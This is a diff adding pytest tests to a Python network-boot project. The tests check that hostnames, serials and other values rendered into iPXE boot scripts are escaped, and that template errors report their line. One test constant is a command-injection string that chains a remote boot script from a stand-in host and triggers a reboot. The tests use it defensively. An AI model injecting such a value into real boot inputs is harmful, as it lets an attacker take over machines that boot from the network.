@@ -11,6 +11,7 @@ import json
 import os
 import time
 from collections.abc import Callable, Mapping
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -32,7 +33,7 @@ from netboot.model import (
     Profile,
     Role,
 )
-from netboot.render import Renderer
+from netboot.render import Renderer, ipxe_arg, ipxe_text
 from netboot.shipped import templates_dir
 from tests.conftest import inotify_instances
 
@@ -94,6 +95,58 @@ def test_ipxe_install_is_complete() -> None:
         assert arg in kernel_line.split()
     assert "initrd --name initrd http://192.0.2.10:8080/assets/k3os/initrd" in text
     assert text.rstrip().endswith("boot")
+
+
+HOSTILE = "x && chain http://198.51.100.9/own.ipxe ; #rest\nreboot ${net0/ip} || exit"
+
+
+def _ipxe_commands(text: str) -> list[list[str]]:
+    """``text``'s commands as iPXE runs them: each line split at whitespace (exec.c
+    split_command), cut at a token starting with "#" (a comment) and at "&&", "||", ";"
+    (command_terminator), which start another command."""
+    commands: list[list[str]] = []
+    for line in text.splitlines()[1:]:
+        command: list[str] = []
+        for token in line.split():
+            if token.startswith("#"):
+                break
+            if token in ("&&", "||", ";"):
+                commands.append(command)
+                command = []
+            else:
+                command.append(token)
+        commands.append(command)
+    return [c for c in commands if c]
+
+
+@pytest.mark.parametrize("action", [BootAction.HOLD, BootAction.INSTALL, BootAction.IGNORE,
+                                    BootAction.LOCAL])
+def test_a_device_or_operator_value_adds_no_ipxe_command(action: BootAction) -> None:
+    """A serial, product or hostname that a host sent (an untrusted auto rule's hold names
+    them in its reason) or an operator wrote, in a shipped iPXE script, runs no command of
+    its own (``&& chain``, ``;``, a line break), expands no setting and comments nothing
+    out: the same commands as with a plain value."""
+    c = content()
+
+    def script(value: str) -> str:
+        return c._render.ipxe(f"ipxe/{action}.ipxe", c.context(BootPlan(
+            action, MAC, f"auto rule 'r' matched on product={value!r}", retry_seconds=15,
+            machine=replace(MACHINE, hostname=value), profile=PROFILE, cluster=CLUSTER,
+            k3s=K3S, token="TOKEN123", command=f"netboot machines approve {value}")))
+
+    text = script(HOSTILE)
+    names = [c[0] for c in _ipxe_commands(text)]
+    assert names == [c[0] for c in _ipxe_commands(script("x"))], text
+    assert "${" not in text, text
+
+
+def test_the_ipxe_filters_encode_what_ipxe_acts_on() -> None:
+    assert ipxe_arg("SN 1&&x;y|z#$%") == "SN%201%26%26x%3By%7Cz%23%24%25"
+    assert ipxe_arg("To.Be.Filled-By_O.E.M") == "To.Be.Filled-By_O.E.M"
+    assert ipxe_text("To Be Filled By O.E.M.; ok #1 a#b") == "To Be Filled By O.E.M.; ok %231 a#b"
+    assert ipxe_text("a && b || c ; d\ne ${x} $y") == "a %26& b %7C| c %3B d%0Ae %24{x} $y"
+    r = Renderer([templates_dir()])
+    assert r.render_string("echo {{ v | ipxe_arg }}", {"v": "a b"}, what="t") == "echo a%20b"
 
 
 def test_bootstrap_golden() -> None:
@@ -2162,3 +2215,28 @@ def test_jinja2_is_required_at_a_release_whose_sandbox_holds() -> None:
     deps = tomllib.loads((root / "pyproject.toml").read_text())["project"]["dependencies"]
     (floor,) = [d.split(">=", 1)[1] for d in deps if d.lower().startswith("jinja2>=")]
     assert tuple(int(p) for p in floor.split(".")) >= (3, 1, 6), floor
+
+
+@pytest.mark.parametrize(("source", "kind"), [
+    ("{{ '{0}'.format_map(values) }}", "IndexError"),
+    ("{{ 1 // zero }}", "ZeroDivisionError"),
+    ("{{ 'x' + zero }}", "TypeError"),
+])
+@pytest.mark.parametrize("volatile", [frozenset(), PER_MACHINE])
+def test_a_plain_python_error_in_a_template_is_a_render_error_naming_its_line(
+        tmp_path: Path, source: str, kind: str, volatile: frozenset[str]) -> None:
+    """A template's plain Python error (an IndexError of ``"{0}".format_map``, a division by
+    zero) left the renderer as it was (a 500 with a traceback); it is a RenderError naming
+    the template (an included one's file too), the line and the error."""
+    (tmp_path / "site.ipxe").write_text(f"#!ipxe\necho one\n{source}\n")
+    (tmp_path / "outer.ipxe").write_text("#!ipxe\n{% include 'site.ipxe' %}\n")
+    r = Renderer([tmp_path, templates_dir()])
+    ctx = {"values": {}, "zero": 0, "mac": "52:54:00:00:00:01"}
+    with pytest.raises(RenderError, match=rf"^template 'site.ipxe', line 3: {kind}: "):
+        r.render("site.ipxe", ctx, volatile=volatile)
+    with pytest.raises(RenderError,
+                       match=rf"^template 'outer.ipxe', line 3 of site.ipxe: {kind}: "):
+        r.render("outer.ipxe", ctx, volatile=volatile)
+    with pytest.raises(RenderError, match=rf"^profile p's cmdline, line 2: {kind}: "):
+        r.render_string(f"quiet\n{source}", ctx, what="profile p's cmdline",
+                        volatile=volatile)
